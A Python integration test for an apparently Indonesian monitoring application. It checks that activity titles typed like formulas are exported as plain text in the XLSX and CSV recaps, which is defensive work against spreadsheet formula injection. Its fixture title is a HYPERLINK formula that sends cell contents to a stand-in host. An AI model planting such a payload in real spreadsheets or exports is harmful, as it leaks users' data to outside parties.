"""The recap's cells hold what people typed as text: a spreadsheet must not run it as a formula."""
from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from engine import services
from tests.integration.test_monitoring_versions import signed_in

TITLE = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Rekap")'
PERIOD = "+62 812 Triwulan I"


def test_a_title_typed_like_a_formula_is_text_in_the_xlsx_and_the_csv(rt):
    instance_id = services.start(rt, "monev_kegiatan_bidang", "aptika", TITLE, "aptika.implementasi", PERIOD)
    client = signed_in(rt, "kadis")

    book = load_workbook(io.BytesIO(client.get("/monitoring/rekap.xlsx").data))
    sheet = book["Kegiatan"]
    heads = [c.value for c in sheet[1]]
    [row] = [r for r in sheet.iter_rows(min_row=2) if r[heads.index("ID kegiatan")].value == instance_id]
    title, period = row[heads.index("Judul kegiatan")], row[heads.index("Periode")]
    assert (title.value, title.data_type) == (TITLE, "s")  # was "f": a live formula (a link out, here)
    assert (period.value, period.data_type) == (PERIOD, "s")

    text = client.get("/monitoring/rekap.csv").data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    [line] = [r for r in rows[1:] if r[1] == str(instance_id)]
    assert line[rows[0].index("Judul kegiatan")] == "'" + TITLE
    assert line[rows[0].index("Periode")] == "'" + PERIOD
    assert line[rows[0].index("Dimulai oleh")] == "aptika.implementasi"  # other text as it is
